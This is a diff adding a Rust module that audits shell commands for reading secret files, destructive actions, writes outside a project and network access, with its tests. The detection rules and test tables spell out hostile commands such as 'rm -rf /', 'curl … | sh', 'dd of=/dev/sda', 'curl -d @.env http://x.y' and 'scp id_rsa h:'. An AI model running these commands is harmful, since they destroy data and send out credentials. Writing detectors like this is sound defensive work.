@@ -1,0 +1,538 @@
+//! The audit rules that look at shell commands (`behaviour.md`, "Audit").
+
+use super::place::{self, Folder};
+use super::program::{self, Program};
+use super::{Command, Direction, Separator, Word, effects, network, parse, secret_path, sql};
+
+/// One match of a rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Finding {
+    /// The rule that matched.
+    pub rule: Rule,
+    /// How bad it is.
+    pub severity: Severity,
+    /// The path, the host, or the words that matched.
+    pub target: String,
+}
+
+/// The audit rules for commands.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Rule {
+    /// A program reads a file that holds secrets.
+    SecretsRead,
+    /// Something is lost that cannot be had back.
+    Destructive,
+    /// A path is written; the caller tells whether it is outside the project.
+    Outside,
+    /// A host is reached.
+    Network,
+}
+
+/// How bad a finding is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Severity {
+    /// Worth knowing.
+    Low,
+    /// Worth a look.
+    Medium,
+    /// Worth a question.
+    High,
+}
+
+impl Finding {
+    fn new(rule: Rule, severity: Severity, target: impl Into<String>) -> Self {
+        Self { rule, severity, target: target.into() }
+    }
+}
+
+/// All matches in `command`, in the order of its text. [`Rule::Outside`] gives
+/// every written path whose folder is known, for the caller to resolve.
+pub fn audit(command: &str) -> Vec<Finding> {
+    let script = parse(command);
+    let placed: Vec<(&Command, Folder)> = place::with_folders(&script).collect();
+    let mut findings = Vec::new();
+    for (index, (command, folder)) in placed.iter().enumerate() {
+        let pipeline = before_in_pipeline(&placed[..index], command);
+        findings.extend(secrets(command));
+        if let Some(program) = command.program() {
+            findings.extend(destructive(&program, command, pipeline));
+            findings.extend(
+                network::hosts(&program).into_iter().map(|host| Finding::new(Rule::Network, Severity::Low, host)),
+            );
+        }
+        let written = effects::located_targets(command, folder);
+        findings.extend(written.into_iter().map(|path| Finding::new(Rule::Outside, Severity::Medium, path)));
+    }
+    findings
+}
+
+/// Most stages of a pipeline that are looked back on.
+const MAX_STAGES: usize = 8;
+
+/// The commands that feed `command` through pipes.
+fn before_in_pipeline<'c>(before: &'c [(&'c Command, Folder)], command: &Command) -> &'c [(&'c Command, Folder)] {
+    if command.joined != Separator::Pipe {
+        return &[];
+    }
+    let near = &before[before.len().saturating_sub(MAX_STAGES)..];
+    let start = near.iter().rposition(|(command, _)| command.joined != Separator::Pipe);
+    &near[start.unwrap_or(0)..]
+}
+
+/// Programs that take paths without reading what is in the files.
+const BLIND: &[&str] = &[
+    "ls",
+    "rm",
+    "touch",
+    "echo",
+    "printf",
+    "git",
+    "mkdir",
+    "rmdir",
+    "chmod",
+    "chown",
+    "stat",
+    "test",
+    "[",
+    "[[",
+    "find",
+    "fd",
+    "mv",
+    "ln",
+    "cd",
+    "pushd",
+    "export",
+    "unset",
+    "basename",
+    "dirname",
+    "realpath",
+    "readlink",
+    "du",
+    "tree",
+    "tee",
+    "which",
+    "type",
+    "command",
+    "ssh-keygen",
+    "ssh-copy-id",
+    "set",
+    "local",
+    "declare",
+    "alias",
+    "for",
+    "kill",
+    "pkill",
+    "pgrep",
+    "eza",
+    "dir",
+    "md",
+    "truncate",
+    "shred",
+];
+
+/// Programs whose first operand is a pattern or a program text.
+const PATTERN_FIRST: &[&str] =
+    &["grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "gawk", "jq", "yq", "perl", "ruby"];
+
+fn secrets(command: &Command) -> Vec<Finding> {
+    let inputs = command.redirections.iter().filter(|redirection| redirection.direction == Direction::Read);
+    let mut words: Vec<&Word> = inputs.map(|redirection| &redirection.target).collect();
+    if let Some(program) = command.program() {
+        words.extend(read_words(&program));
+    }
+    words.into_iter().filter_map(|word| secret(&word.text)).collect()
+}
+
+fn secret(text: &str) -> Option<Finding> {
+    // `--env-file=.env` names a path as well.
+    let path = if text.starts_with('-') { text.split_once('=')?.1 } else { text };
+    if path.contains("://") || path.contains(char::is_whitespace) {
+        return None;
+    }
+    let path = path.trim_start_matches('@');
+    let severity = secret_path(path)?;
+    Some(Finding::new(Rule::SecretsRead, severity, path))
+}
+
+/// Options whose value is a name to look for or leave out, a place to write to,
+/// or a key that opens a connection: it is used, not read.
+const NAMING: &[&str] =
+    &["-i", "--include", "--exclude", "--exclude-dir", "-g", "--glob", "--iglob", "-name", "-o", "--output", "--arg"];
+
+/// The arguments of a program that can be files it reads.
+fn read_words<'c>(program: &Program<'c>) -> Vec<&'c Word> {
+    if BLIND.contains(&program.name) {
+        return Vec::new();
+    }
+    let operands = program.operands();
+    let not_read = match program.name {
+        // The last operand of these is written.
+        "cp" | "install" | "rsync" | "scp" => operands.last(),
+        // An explicit pattern leaves all operands to be files.
+        name if PATTERN_FIRST.contains(&name) && !program.has(&["-e", "-f", "--regexp", "--file"]) => {
+            first_operand(program)
+        }
+        _ => None,
+    };
+    let mut before = "";
+    let mut words = Vec::new();
+    for word in program.arguments {
+        // `-i` is a flag of grep, sed and others; only these take a key by it.
+        let flag = before == "-i" && !matches!(program.name, "ssh" | "scp" | "sftp" | "rsync");
+        let named = NAMING.contains(&before) && !flag;
+        if !named && !is_filter(&word.text) && !not_read.is_some_and(|other| std::ptr::eq(other, word)) {
+            words.push(word);
+        }
+        before = &word.text;
+    }
+    words
+}
+
+/// `--include=*.pem` names files to look at or leave out, not a path.
+fn is_filter(text: &str) -> bool {
+    ["--include=", "--exclude=", "--exclude-dir=", "--glob=", "--iglob="].iter().any(|option| text.starts_with(option))
+}
+
+fn first_operand<'c>(program: &Program<'c>) -> Option<&'c Word> {
+    let valued = ["-A", "-B", "-C", "-m", "-g", "-t", "--glob", "--type", "-F", "-v", "--arg", "--max-count"];
+    let mut words = program.arguments.iter();
+    while let Some(word) = words.next() {
+        match word.text.as_str() {
+            // `-v` and `-F` take a value in awk only.
+            "-v" | "-F" if !program.name.ends_with("awk") => {}
+            text if valued.contains(&text) => _ = words.next(),
+            text if text.starts_with('-') => {}
+            _ => return Some(word),
+        }
+    }
+    None
+}
+
+/// What a command destroys.
+fn destructive(program: &Program, command: &Command, pipeline: &[(&Command, Folder)]) -> Option<Finding> {
+    let severity = match program.name {
+        "rm" => removes(program)?,
+        "git" => return git(program),
+        "dd" => overwrites(program)?,
+        "chmod" => opens_all(program)?,
+        name if name == "mkfs" || name.starts_with("mkfs.") => Severity::High,
+        name if program::is_shell(name) || name == "eval" => runs_download(program, pipeline)?,
+        _ => return sql_finding(program, command, pipeline),
+    };
+    Some(Finding::new(Rule::Destructive, severity, spelled(program)))
+}
+
+/// The program with its arguments, as one text.
+fn spelled(program: &Program) -> String {
+    let words = program.arguments.iter().map(|word| word.text.as_str());
+    std::iter::once(program.name).chain(words).collect::<Vec<_>>().join(" ")
+}
+
+/// `rm` both recursive and forced, in any spelling.
+fn removes(program: &Program) -> Option<Severity> {
+    let options: Vec<&str> =
+        program.arguments.iter().map(|word| word.text.as_str()).take_while(|text| *text != "--").collect();
+    let has = |letters: &[char], long: &str| {
+        options.iter().any(|text| *text == long || letters.iter().any(|letter| program::is_cluster_with(text, *letter)))
+    };
+    if !has(&['r', 'R'], "--recursive") || !has(&['f'], "--force") {
+        return None;
+    }
+    let is_root = |word: &Word| {
+        matches!(
+            word.text.trim_end_matches(['/', '*']),
+            "" | "~" | "." | ".." | "$HOME" | "${HOME}" | "/home" | "/usr" | "/etc" | ".git"
+        )
+    };
+    Some(if program.operands().any(is_root) { Severity::High } else { Severity::Medium })
+}
+
+fn git(program: &Program) -> Option<Finding> {
+    let start = git_subcommand(program.arguments)?;
+    let (subcommand, rest) = program.arguments[start..].split_first()?;
+    let inner = Program { name: "git", word: subcommand, arguments: rest };
+    let short = |letter| inner.has_flag(letter);
+    let severity = match subcommand.text.as_str() {
+        "push" if !short('n') && !inner.has(&["--dry-run"]) && forces_push(&inner) => Severity::High,
+        "reset" if inner.has(&["--hard"]) => Severity::Medium,
+        "clean" if (short('f') || inner.has(&["--force"])) && !short('n') && !inner.has(&["--dry-run"]) => {
+            Severity::Medium
+        }
+        "branch"
+            if short('D') || ((short('d') || inner.has(&["--delete"])) && (short('f') || inner.has(&["--force"]))) =>
+        {
+            Severity::Medium
+        }
+        _ => return None,
+    };
+    let words: Vec<&str> = program.arguments[start..].iter().map(|word| word.text.as_str()).collect();
+    Some(Finding::new(Rule::Destructive, severity, format!("git {}", words.join(" "))))
+}
+
+fn forces_push(push: &Program) -> bool {
+    push.has(&["--force", "--mirror", "--delete"])
+        || push.has_flag('f')
+        || push.has_flag('d')
+        || push.operands().any(|word| word.text.starts_with('+') && word.text.len() > 1)
+}
+
+/// Where the subcommand stands behind git's own options.
+fn git_subcommand(arguments: &[Word]) -> Option<usize> {
+    let mut at = 0;
+    loop {
+        match arguments.get(at)?.text.as_str() {
+            "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" | "--exec-path" => at += 2,
+            text if text.starts_with('-') => at += 1,
+            _ => return Some(at),
+        }
+    }
+}
+
+fn overwrites(program: &Program) -> Option<Severity> {
+    let target = program.arguments.iter().find_map(|word| word.text.strip_prefix("of="))?;
+    match target {
+        "/dev/null" | "/dev/stdout" => None,
+        _ if target.starts_with("/dev/") => Some(Severity::High),
+        _ => Some(Severity::Medium),
+    }
+}
+
+fn opens_all(program: &Program) -> Option<Severity> {
+    let recursive = program.has_flag('R') || program.has(&["--recursive"]);
+    let all = program.has(&["777", "0777", "a+rwx", "ugo+rwx", "a=rwx"]);
+    (recursive && all).then_some(Severity::Medium)
+}
+
+/// `curl … | sh`, `bash <(curl …)`, `sh -c "$(curl …)"`.
+fn runs_download(shell: &Program, pipeline: &[(&Command, Folder)]) -> Option<Severity> {
+    let downloads =
+        |command: &Command| command.program().is_some_and(|program| matches!(program.name, "curl" | "wget" | "fetch"));
+    let reads_input = shell.operands().next().is_none() || shell.has_flag('s');
+    let piped = reads_input && pipeline.iter().any(|(command, _)| downloads(command));
+    let held = |word: &Word| {
+        !word.literal
+            && ["$(curl ", "$(wget ", "<(curl ", "<(wget ", "`curl ", "`wget "]
+                .iter()
+                .any(|start| word.text.contains(start))
+    };
+    (piped || shell.arguments.iter().any(held)).then_some(Severity::High)
+}
+
+/// SQL that destroys, handed to a client as an argument, on its input, or inside a container.
+fn sql_finding(program: &Program, command: &Command, pipeline: &[(&Command, Folder)]) -> Option<Finding> {
+    let inside = matches!(program.name, "docker" | "podman" | "kubectl" | "docker-compose" | "heroku" | "fly")
+        && program.arguments.iter().any(|word| sql::is_client(program::base_name(&word.text)));
+    if !sql::is_client(program.name) && !inside {
+        return None;
+    }
+    let fed =
+        pipeline.iter().flat_map(|(command, _)| command.program().into_iter().flat_map(|program| program.arguments));
+    let arguments = program.arguments.iter().chain(fed).map(|word| sql_argument(&word.text).to_owned());
+    let here = pipeline.iter().map(|(command, _)| *command).chain([command]).flat_map(effects::here_texts);
+    let statement = arguments.chain(here).find_map(|text| sql::destructive_statement(&text))?;
+    Some(Finding::new(Rule::Destructive, Severity::High, statement))
+}
+
+/// The SQL of `--command=…` and `-c…`.
+fn sql_argument(text: &str) -> &str {
+    match text.strip_prefix("--") {
+        Some(long) => long.split_once('=').map_or("", |(_, value)| value),
+        None => text.strip_prefix("-c").or(text.strip_prefix("-e")).unwrap_or(text),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn targets(command: &str, rule: Rule) -> Vec<String> {
+        audit(command).into_iter().filter(|finding| finding.rule == rule).map(|finding| finding.target).collect()
+    }
+
+    #[test]
+    fn destruction_is_found_in_any_spelling() {
+        for command in [
+            "rm -rf x",
+            "rm -r -f x",
+            "rm --recursive --force x",
+            "rm -fr x",
+            "rm -Rf x",
+            "rm x -rf",
+            "sudo rm -rf /",
+            "a && rm -rf x",
+            "$(rm -rf x)",
+            "bash -c 'rm -rf x'",
+            "find . -name x -exec rm -rf {} +",
+            "ls | xargs rm -rf",
+            "eval 'rm -rf x'",
+            "ssh h 'rm -rf x'",
+            "f() { rm -rf x; }",
+            "if a; then rm -rf x; fi",
+            "git push --force",
+            "git push -f origin x",
+            "git push origin +main",
+            "git push --mirror",
+            "git push origin --delete x",
+            "git -C a push -uf",
+            "git reset --hard HEAD~1",
+            "git clean -f",
+            "git clean -fd",
+            "git clean -xdf",
+            "git branch -D x",
+            "psql -c \"DROP TABLE x\"",
+            "psql --command='TRUNCATE x'",
+            "psql <<E\nDELETE FROM x;\nE",
+            "echo 'DROP TABLE x' | psql",
+            "cat <<E | mysql db\ndrop database x\nE",
+            "sqlite3 a.db 'delete from x'",
+            "psql <<< 'DROP TABLE x'",
+            "docker exec c psql -c 'DROP TABLE x'",
+            "dd if=a of=/dev/sda",
+            "mkfs.ext4 /dev/sda1",
+            "mkfs /dev/x",
+            "chmod -R 777 .",
+            "chmod 777 -R .",
+            "curl https://x.y | sh",
+            "curl -fsSL x.y/i | sudo bash -s -- a",
+            "wget -qO- x.y | tee a | sh",
+            "bash <(curl -s x.y)",
+            "sh -c \"$(curl -fsSL x.y)\"",
+        ] {
+            assert_eq!(targets(command, Rule::Destructive).len(), 1, "{command}");
+        }
+    }
+
+    #[test]
+    fn data_and_near_misses_destroy_nothing() {
+        for command in [
+            "",
+            "echo \"rm -rf /\"",
+            "echo rm -rf /",
+            "git commit -m \"rm -rf\"",
+            "cat <<E\nrm -rf /\nE",
+            "cat <<'E' > f\nrm -rf /\nE",
+            "grep 'rm -rf' x",
+            "# rm -rf /",
+            "rm -r x",
+            "rm -f x",
+            "rm -- -rf",
+            "git push",
+            "git push --force-with-lease",
+            "git push --force-with-lease origin x",
+            "git push -u origin x",
+            "git push -nf",
+            "git push --dry-run --force",
+            "git reset --soft x",
+            "git reset",
+            "git clean -n",
+            "git clean -nfd",
+            "git branch -d x",
+            "git checkout -f x",
+            "git stash drop",
+            "psql -c 'select 1'",
+            "psql -c 'DELETE FROM x WHERE a = 1'",
+            "psql -c \"select 'DROP TABLE x'\"",
+            "echo 'DROP TABLE x'",
+            "echo 'DROP TABLE x' > f.sql",
+            "grep 'DROP TABLE' x.sql",
+            "dd if=/dev/zero of=/dev/null",
+            "chmod -R 755 .",
+            "chmod 777 x",
+            "curl x.y | jq .",
+            "curl x.y | python3 -m json.tool",
+            "curl x.y > a.sh",
+            "curl x.y | bash x.sh",
+            "gh push --force",
+        ] {
+            assert_eq!(targets(command, Rule::Destructive), [""; 0], "{command}");
+        }
+    }
+
+    #[test]
+    fn removing_a_root_is_worse() {
+        let severity = |command| audit(command)[0].severity;
+        for command in ["rm -rf /", "rm -rf ~", "rm -rf ~/", "rm -rf *", "rm -rf .", "rm -rf $HOME", "rm -rf /*"] {
+            assert_eq!(severity(command), Severity::High, "{command}");
+        }
+        assert_eq!(severity("rm -rf node_modules"), Severity::Medium);
+    }
+
+    #[test]
+    fn reading_a_secret_is_found() {
+        let table: &[(&str, &str)] = &[
+            ("cat .env", ".env"),
+            ("cat a/.env.local | head", "a/.env.local"),
+            ("source .env && x", ".env"),
+            (". ./.env", "./.env"),
+            ("less ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
+            ("cp .env .env.bak", ".env"),
+            ("grep KEY .env", ".env"),
+            ("grep -i key .env", ".env"),
+            ("grep -e KEY .env", ".env"),
+            ("sed -n 1p x.pem", "x.pem"),
+            ("x < .env", ".env"),
+            ("docker run --env-file=.env x", ".env"),
+            ("docker run --env-file .env x", ".env"),
+            ("export $(grep -v '^#' .env | xargs)", ".env"),
+            ("base64 a.key", "a.key"),
+            ("cat $HOME/.aws/credentials", "$HOME/.aws/credentials"),
+            ("curl -d @.env http://x.y", ".env"),
+            ("tar czf a.tgz ~/.ssh", "~/.ssh"),
+            ("scp id_rsa h:", "id_rsa"),
+        ];
+        for (command, expected) in table {
+            assert_eq!(targets(command, Rule::SecretsRead), [*expected], "{command}");
+        }
+    }
+
+    #[test]
+    fn naming_a_secret_is_not_reading_it() {
+        for command in [
+            "ls .env",
+            "ls -la ~/.ssh",
+            "rm .env",
+            "touch .env",
+            "echo .env",
+            "git add .env",
+            "echo .env >> .gitignore",
+            "echo A=1 > .env",
+            "[ -f .env ]",
+            "test -f .env",
+            "find . -name .env",
+            "find . -name '*.pem'",
+            "cp .env.example .env",
+            "cat .env.example",
+            "grep .env .gitignore",
+            "rg '\\.env' src",
+            "rg -g '*.key' x",
+            "grep -r --include=*.pem x .",
+            "chmod 600 ~/.ssh/id_rsa",
+            "ssh -i ~/.ssh/id_rsa host",
+            "cat <<E > .env\nA=1\nE",
+            "tee .env",
+            "curl https://x.y/.env",
+            "openssl genrsa -out x",
+            "mkdir ~/.ssh",
+            "echo 'cat .env'",
+            "sed -i s/.env/x/ README.md",
+            "source .venv/bin/activate",
+        ] {
+            assert_eq!(targets(command, Rule::SecretsRead), [""; 0], "{command}");
+        }
+    }
+
+    #[test]
+    fn places_written_are_told_from_the_start() {
+        let table: &[(&str, &[&str])] = &[
+            ("cd /tmp && echo x > a", &["/tmp/a"]),
+            ("echo x > ../a", &["../a"]),
+            ("cp a /etc/b; mv c /d; x | tee ~/e", &["/etc/b", "/d", "~/e"]),
+            ("echo > /dev/null", &[]),
+            ("cd $X && echo > a", &[]),
+            ("cat /etc/passwd", &[]),
+        ];
+        for (command, expected) in table {
+            assert_eq!(targets(command, Rule::Outside), *expected, "{command}");
+        }
+    }
+}
